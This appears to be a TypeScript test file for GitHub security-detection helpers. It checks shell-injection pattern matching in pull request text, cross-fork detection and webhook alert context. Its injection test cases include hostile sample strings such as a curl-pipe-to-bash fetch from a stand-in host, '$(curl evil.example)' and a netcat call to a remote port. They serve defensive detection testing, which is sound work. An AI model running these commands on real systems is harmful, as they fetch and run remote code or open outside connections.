import { PantherEvent } from "@pypanther/core";
import {
  analyseBashInjection,
  containsBashInjectionPattern,
  getMatchedBashPatterns,
  githubAlertContext,
  githubChange,
  githubReferenceUrl,
  githubWebhookAlertContext,
  hasWorkflowStep,
  isCrossForkPr,
  isPullRequestEvent,
} from "@pypanther/helpers/github";

type Log = ConstructorParameters<typeof PantherEvent>[0];
const event = (log: Log) => new PantherEvent(log);

describe("shell syntax in text", () => {
  test.each<[string | null, boolean]>([
    ["fix $(curl evil.example)", true],
    ["curl -s http://evil.example/x | bash", true],
    ["WGET http://evil.example/x |\nSH", true],
    ["diff <(ls)", true],
    ["tee >(cat)", true],
    ["${x:-$(id)}", true],
    ["${x:-`id`}", true],
    ["/bin/sh -c id", true],
    ["\\x41424344", true],
    ["eval ($cmd", true],
    ["exec($cmd", true],
    ["nc 192.0.2.1 4444", true],
    ["Make the login page faster (again)", false],
    ["Drop support for bash and curl", false],
    ["", false],
    [null, false],
  ])("%j: %s", (text, expected) => {
    expect(containsBashInjectionPattern(text)).toBe(expected);
  });
  test("each pattern comes with everything it matched, in the order of the patterns", () => {
    expect(getMatchedBashPatterns(`bash -c "x" a $(id) b $(pwd)`)).toEqual([
      { pattern: String.raw`\$\([^)]+\)`, match: ["$(id)", "$(pwd)"] },
      { pattern: String.raw`(?:bash|sh)\s+-c\s+['\"]`, match: [`bash -c "`] },
    ]);
    expect(getMatchedBashPatterns("all fine")).toEqual([]);
    expect(getMatchedBashPatterns(null)).toEqual([]);
  });
  test("of several texts only those with shell syntax are told", () => {
    expect(analyseBashInjection({ title: "all fine", body: "run $(id)" })).toEqual({
      body: { value: "run $(id)", matched_patterns: [{ pattern: String.raw`\$\([^)]+\)`, match: ["$(id)"] }] },
    });
  });
  test("a text made to keep a pattern busy", () => {
    expect(containsBashInjectionPattern("${$(curl ".repeat(10_000))).toBe(false);
  });
});

const noContext = { action: "", actor: "", actor_location: null, org: "", repo: "", user: "" };
const noRepository = {
  name: null,
  full_name: null,
  private: null,
  fork: null,
  default_branch: null,
  html_url: null,
};

test("githubAlertContext takes the country and leaves empty what is missing", () => {
  const log = { action: "repo.create", actor: "iris", actor_location: { country_code: "NL" }, org: "meridian-pay" };
  expect(githubAlertContext(event(log))).toEqual({ ...noContext, ...log, actor_location: "NL" });
  expect(githubAlertContext(event({}))).toEqual(noContext);
  expect(githubAlertContext(event({ actor_location: "NL" })).actor_location).toBeNull();
});

const pullRequest = {
  action: "opened",
  pull_request: {
    number: 12,
    title: "Faster login",
    state: "open",
    user: { login: "mallory" },
    html_url: "https://github.example/pr/12",
    head: { repo: { full_name: "mallory/ledger" }, ref: "faster", sha: "aa11" },
    base: { repo: { full_name: "meridian-pay/ledger" }, ref: "main", sha: "bb22" },
  },
  repository: {
    name: "ledger",
    full_name: "meridian-pay/ledger",
    private: false,
    html_url: "https://github.example/r",
  },
  sender: { login: "mallory", id: 5, type: "User", html_url: "https://github.example/mallory" },
};

const push = {
  ref: "refs/heads/main",
  before: "aa",
  after: "bb",
  forced: false,
  commits: [{ id: "bb" }],
  pusher: { name: "iris" },
  head_commit: { id: "bb", message: "Fix", author: { name: "Iris" }, timestamp: "t", url: "https://github.example/c" },
  compare: "https://github.example/compare",
  repository: { html_url: "https://github.example/r" },
};

const run = {
  workflow_run: { html_url: "https://github.example/run", head_repository: { id: 1 }, repository: { id: 2 } },
};

describe("isCrossForkPr", () => {
  test.each<[string, Log, boolean]>([
    ["a pull request from a fork", pullRequest, true],
    ["a run of another repository's code", run, true],
    [
      "a run for a pull request from a fork",
      { workflow_run: { pull_requests: [{ head: { repo: { id: 1 } }, base: { repo: { id: 2 } } }] } },
      true,
    ],
    [
      "a run for a pull request within one repository",
      { workflow_run: { pull_requests: [{ head: { repo: { id: 1 } }, base: { repo: { id: 1 } } }] } },
      false,
    ],
    [
      "the pull request's own repositories decide",
      { ...run, pull_request: { head: { repo: { full_name: "a/b" } }, base: { repo: { full_name: "a/b" } } } },
      false,
    ],
    ["nothing known", {}, false],
    ["fields of other types", { pull_request: 1, workflow_run: [run] }, false],
  ])("%s", (_what, log, expected) => {
    expect(isCrossForkPr(event(log))).toBe(expected);
  });
});

describe("isPullRequestEvent", () => {
  test.each<[Log, boolean]>([
    [{ action: "opened", pull_request: {} }, true],
    [{ action: "opened", pull_request: null }, false],
    [{ action: "opened" }, false],
    [{ action: "review_requested", pull_request: {} }, false],
  ])("%j: %s", (log, expected) => {
    expect(isPullRequestEvent(event(log))).toBe(expected);
  });
});

describe("githubWebhookAlertContext", () => {
  test("tells a pull request and where its code comes from", () => {
    expect(githubWebhookAlertContext(event(pullRequest))).toEqual({
      ...noContext,
      action: "opened",
      repository: { ...pullRequest.repository, fork: null, default_branch: null },
      sender: pullRequest.sender,
      pull_request: {
        number: 12,
        title: "Faster login",
        state: "open",
        user: "mallory",
        draft: null,
        html_url: "https://github.example/pr/12",
        created_at: null,
        updated_at: null,
      },
      fork_analysis: {
        is_cross_fork: true,
        head_repo: "mallory/ledger",
        base_repo: "meridian-pay/ledger",
        head_ref: "faster",
        base_ref: "main",
        head_sha: "aa11",
        base_sha: "bb22",
      },
    });
  });
  test("tells a push and its last commit", () => {
    expect(githubWebhookAlertContext(event(push))).toEqual({
      ...noContext,
      repository: { ...noRepository, html_url: "https://github.example/r" },
      push_details: {
        pusher: { name: "iris" },
        ref: "refs/heads/main",
        before: "aa",
        after: "bb",
        forced: false,
        size: 1,
      },
      head_commit: {
        id: "bb",
        message: "Fix",
        author: "Iris",
        committer: null,
        timestamp: "t",
        url: "https://github.example/c",
      },
    });
  });
  test("an empty event has a repository of nulls and no more", () => {
    const context = { ...noContext, repository: noRepository };
    expect(githubWebhookAlertContext(event({}))).toEqual(context);
    expect(githubWebhookAlertContext(event({ sender: {}, pusher: {} }))).toEqual(context);
  });
  test("a push without a last commit has none in the context", () => {
    expect(githubWebhookAlertContext(event({ ...push, head_commit: {} }))).not.toHaveProperty("head_commit");
  });
});

describe("githubReferenceUrl", () => {
  test.each<[string, Log, string | null]>([
    ["the pull request", pullRequest, "https://github.example/pr/12"],
    ["the compared commits", push, "https://github.example/compare"],
    ["the run", run, "https://github.example/run"],
    ["the repository", { repository: { html_url: "https://github.example/r" } }, "https://github.example/r"],
    ["nothing", {}, null],
    ["nothing where the field is no text", { compare: 5 }, null],
  ])("%s", (_what, log, expected) => {
    expect(githubReferenceUrl(event(log))).toBe(expected);
  });
});

test.each([
  ["hook.create", "created"],
  ["hook.destroy", "deleted"],
  ["hook.config_changed", "modified"],
])("%s means that something was %s", (action, change) => {
  expect(githubChange(action)).toBe(change);
});

test("hasWorkflowStep ignores the case of step names and steps without one", () => {
  const job = event({ workflow_job: { steps: [{ number: 1 }, { name: "Run Unit Tests" }] } });
  expect(hasWorkflowStep(job, ["lint", "unit test"])).toBe(true);
  expect(hasWorkflowStep(job, ["lint"])).toBe(false);
  expect(hasWorkflowStep(event({ workflow_job: { steps: null } }), [""])).toBe(false);
});
